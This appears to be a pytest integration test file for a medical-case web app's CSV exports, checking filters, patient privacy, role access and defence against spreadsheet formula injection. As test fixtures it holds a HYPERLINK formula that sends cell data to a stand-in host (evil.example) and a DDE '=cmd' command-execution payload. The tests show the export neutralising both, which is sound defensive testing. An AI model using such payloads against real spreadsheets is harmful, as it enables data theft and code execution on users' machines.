"""Lists for spreadsheets: what the filters show and no more, and nothing that a spreadsheet would run."""

import csv
from datetime import datetime, timedelta
from io import StringIO

import pytest
from sqlmodel import select

from models import Case, Patient
from models.user_status import Role
from pathways.vocabulary import Specialty
from secunda import clock
from secunda.db import transaction
from secunda.web.coordinator import export
from secunda.web.tables import BOM, FORMULAS, cell
from tests.integration.surroundings import an_expert_of, launch_case
from tests.integration.web.browsing import Browser, signed_in

pytestmark = pytest.mark.usefixtures("store")


def exported(browser: Browser, address: str) -> list[dict[str, str]]:
    answer = browser.open(address)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert answer.text.startswith(BOM)
    return list(csv.DictReader(StringIO(answer.text.removeprefix(BOM), newline="")))


def test_the_filters_in_force_decide_what_is_exported(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "AT_ONCE", 2)  # several pages
    known = {launch_case(requester=f"Clínica {number}") for number in range(5)}
    brain = launch_case(Specialty.NEUROLOGY, payer="mutua-norte")
    with transaction() as session:
        for case in session.exec(select(Case)):
            case.report_due_at = clock.now() + timedelta(days=3)
    browser = signed_in()
    everything = exported(browser, "/cases/export.csv?part=open&sort=due")
    assert {row["Case"] for row in everything} == {*known, brain} and len(everything) == 6
    assert datetime.fromisoformat(everything[0]["Report due"]).tzinfo is not None
    [only] = exported(browser, "/cases/export.csv?part=open&specialty=neurology")
    assert (only["Case"], only["Payer"], only["Stage"]) == (brain, "mutua-norte", "Requested")
    browser.open("/cases?part=open&specialty=neurology", **{"HX-Request": "true"})
    assert "/cases/export.csv?part=open&amp;specialty=neurology" in browser.answer.text


def test_it_names_no_patient_and_a_payer_s_viewer_gets_its_own_cases() -> None:
    own = launch_case(payer="mutua-norte")
    launch_case(payer="otra", requester="Clínica B")
    viewer = signed_in(Role.PAYER_VIEWER, "vera@example.org", "mutua-norte")
    rows = exported(viewer, "/cases/export.csv?part=open&payer=otra")
    assert rows == []
    assert [row["Case"] for row in exported(viewer, "/cases/export.csv?part=open")] == [own]
    with transaction() as session:
        patient = session.exec(select(Patient)).first()
        assert patient is not None
        name = patient.family_name
    for browser in (viewer, signed_in()):
        assert name not in browser.open("/cases/export.csv?part=open").text
    assert signed_in(Role.OPS, "olga@example.org").open("/cases/export.csv").status_code == 403


@pytest.mark.parametrize("begins", FORMULAS, ids=[f"U+{ord(one):04X}" for one in FORMULAS])
def test_nothing_is_a_formula(begins: str) -> None:
    requester = f'{begins}HYPERLINK("https://evil.example/?"&A1)'
    launch_case()
    with transaction() as session:
        session.exec(select(Case)).one().requester = requester
    [row] = exported(signed_in(), "/cases/export.csv?part=open")
    assert row["Requester"] == f"'{requester}"
    assert not cell(requester).startswith(FORMULAS)


@pytest.mark.parametrize("table", ["stages", "specialties", "turnaround", "experts"])
def test_the_overview_s_tables_are_exported_too(table: str) -> None:
    launch_case()
    with transaction() as session:
        session.add(an_expert_of(Specialty.CARDIOLOGY, "cardiac_surgeon", name="=cmd|' /C calc'!A0"))
    rows = exported(signed_in(Role.AUDITOR, "eva@example.org"), f"/overview/{table}.csv")
    if table == "stages":
        assert rows == [{"Stage": "Requested", "Cases": "1"}]
    if table == "experts":
        assert rows[0]["Expert"] == "'=cmd|' /C calc'!A0"
    assert signed_in(Role.PAYER_VIEWER, "v@example.org", "mutua").open(f"/overview/{table}.csv").status_code == 403


def test_there_is_no_other_table() -> None:
    assert signed_in().open("/overview/patients.csv").status_code == 404
